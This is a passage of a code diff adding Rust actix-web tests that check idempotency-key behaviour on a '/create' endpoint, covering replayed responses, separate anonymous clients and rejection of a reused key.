+    let mut responses = Vec::new();
+    for _ in 0..2 {
+        let request = test::TestRequest::post()
+            .uri("/create")
+            .header("Authorization", BEARER)
+            .header("Idempotency-Key", "qwerty")
+            .set_json(&body)
+            .to_request();
+        let response = test::call_service(&mut app, request).await;
+
+        assert_eq!(response.status(), StatusCode::OK, "Response: {:?}", response);
+        responses.push(response);
+    }
+
+    let replayed = responses[1].headers().get("Idempotent-Replayed");
+    assert_eq!(replayed.and_then(|value| value.to_str().ok()), Some("true"));
+    assert!(responses[0].headers().get("Idempotent-Replayed").is_none());
+
+    let retry: CreateResponse = test::read_body_json(responses.pop().unwrap()).await;
+    let original: CreateResponse = test::read_body_json(responses.pop().unwrap()).await;
+    assert!(original.id.is_some());
+    assert_eq!(retry.id, original.id);
+    assert_eq!(retry.code, original.code);
+
+    let broker_lock = broker.lock();
+    let sent_msgs_lock = broker_lock.sent_msgs.lock();
+    assert_eq!(sent_msgs_lock.get(&Exchanges::Scheduler).unwrap().len(), 1);
+}
+
+#[actix_rt::test]
+async fn create_idempotency_anonymous() {
+    let mut app = test::init_service(App::new().configure(configure)).await;
+
+    // Two clients that happen to send the same key, with the same body and with another one
+    let mut ids = Vec::new();
+    for (peer, url) in &[
+        ("10.0.0.1:4000", "https://google.com"),
+        ("10.0.0.2:4000", "https://google.com"),
+        ("10.0.0.3:4000", "https://duckduckgo.com"),
+    ] {
+        let body = json!({"url": url, "interval": 5, "script": "qwerty"});
+        let request = test::TestRequest::post()
+            .uri("/create")
+            .peer_addr(peer.parse().unwrap())
+            .header("Idempotency-Key", "qwerty")
+            .set_json(&body)
+            .to_request();
+        let response = test::call_service(&mut app, request).await;
+
+        assert_eq!(response.status(), StatusCode::OK, "Response: {:?}", response);
+        assert!(response.headers().get("Idempotent-Replayed").is_none());
+
+        let response: CreateResponse = test::read_body_json(response).await;
+        ids.push(response.id.unwrap());
+    }
+
+    assert_ne!(ids[0], ids[1]);
+    assert_ne!(ids[1], ids[2]);
+}
+
+#[actix_rt::test]
+async fn create_idempotency_key_reused() {
+    let mut app = test::init_service(App::new().wrap(authentication()).configure(configure)).await;
+
+    let mut statuses = Vec::new();
+    for url in &["https://google.com", "https://duckduckgo.com"] {
+        let body = json!({"url": url, "interval": 5, "script": "qwerty"});
+        let request = test::TestRequest::post()
+            .uri("/create")
+            .header("Authorization", BEARER)
+            .header("Idempotency-Key", "qwerty")
+            .set_json(&body)
+            .to_request();
+        let response = test::call_service(&mut app, request).await;
+        statuses.push(response.status());
+
+        if response.status() != StatusCode::OK {
+            let response: CreateResponse = test::read_body_json(response).await;
+            assert_eq!(response.error.unwrap(), IDEMPOTENCY_KEY_REUSED);
+        }
+    }
+
+    assert_eq!(statuses, vec![StatusCode::OK, StatusCode::UNPROCESSABLE_ENTITY]);
+}